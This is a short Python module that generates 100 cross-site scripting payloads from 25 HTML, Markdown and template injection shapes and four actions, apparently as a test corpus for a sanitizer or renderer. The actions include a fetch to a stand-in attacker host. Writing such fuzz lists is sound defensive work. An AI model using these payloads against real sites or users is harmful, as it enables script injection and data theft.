"""A hundred ways in which text tries to become script."""

from __future__ import annotations

ACTS = ("alert(1)", "fetch('//evil.example')", "document.title='owned'", "window.owned=1")
SHAPES = (
    "<script>{}</script>",
    '<img src=x onerror="{}">',
    '<svg onload="{}">',
    "<svg><script>{}</script></svg>",
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    '<a href="javascript:{}">x</a>',
    "[x](javascript:{})",
    "[x](JaVaScRiPt:{})",
    "[x](java\tscript:{})",
    "[x](data:text/html,<script>{}</script>)",
    "[x](vbscript:{})",
    "![x](javascript:{})",
    "<javascript:{}>",
    "[x]: javascript:{}\n\n[x]",
    '<details open ontoggle="{}">',
    '<body onload="{}">',
    '<input autofocus onfocus="{}">',
    "<math><mtext></p><script>{}</script>",
    "</script><script>{}</script>",
    '"><script>{}</script>',
    "'-{}-'",
    "{{{{constructor.constructor('{}')()}}}}",
    "<style>@import '//evil.example'</style><script>{}</script>",
    '<form action="javascript:{}"><button>go</button></form>',
    "```html\n</code></pre><script>{}</script>\n```",
)
PAYLOADS = [shape.format(act) for shape in SHAPES for act in ACTS]
